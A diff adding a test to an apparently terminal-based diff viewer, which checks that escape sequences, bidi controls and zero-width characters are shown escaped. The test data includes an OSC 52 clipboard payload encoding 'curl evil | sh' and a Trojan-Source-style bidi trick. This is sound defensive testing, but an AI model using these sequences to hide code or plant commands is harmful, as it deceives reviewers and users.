@@ -151,3 +151,31 @@ async def test_an_unchanged_diff_is_not_rebuilt_and_a_longer_patch_lays_out_noth
         pane.show_patch("a.py", patch + "".join(f"+more {i}\n" for i in range(300)))
         assert pane.virtual_size.height == 500
         assert layouts == []  # the scrollbar was already there: nothing else moved
+
+
+async def test_hidden_characters_in_a_diff_are_shown_where_they_stand(tmp_path: Path) -> None:
+    """Escape sequences (cursor moves, a screen clear, OSC 52), bidi controls and zero-width
+    characters in a changed file reach no terminal raw: each is its escape, highlighted."""
+    app, _ = build_app(make_repo(tmp_path / "ws"), {"default": []}, autostart=False)
+    hostile = [
+        "+ok = 1\x1b[1A\x1b[2K# harmless\n",
+        "+\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\n",
+        "+access = 'user\u202e \u2066// admin\u2069 \u2066'\n",
+        "+if is_admin\u200b:\n",
+    ]
+    patch = "diff --git a/x.py b/x.py\n--- a/x.py\n+++ b/x.py\n@@ -0,0 +1,4 @@\n"
+    async with app.run_test(size=(120, 40)) as pilot:
+        app.diff.show_files([FakeDiff("x\x1b[31m.py", "A", 4, 0, False, patch + "".join(hostile))])
+        await pilot.pause()
+        pane = app.diff.pane
+        rows = [pane.render_line(y) for y in range(8)]
+        text = "\n".join("".join(seg.text for seg in row) for row in rows)
+        assert "\x1b" not in text and "\u202e" not in text and "\u200b" not in text
+        assert "ok = 1\\x1b[1A\\x1b[2K# harmless" in text
+        assert "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07" in text
+        assert "'user\\u202e \\u2066// admin\\u2069" in text
+        assert "if is_admin\\u200b:" in text
+        hidden = [seg for row in rows for seg in row if seg.text == "\\u202e"]
+        assert hidden and hidden[0].style is not None and hidden[0].style.bgcolor is not None
+        label = app.diff.query_one("#diff-files").get_option_at_index(0).prompt
+        assert "\x1b" not in str(label) and "\\x1b[31m" in str(label)
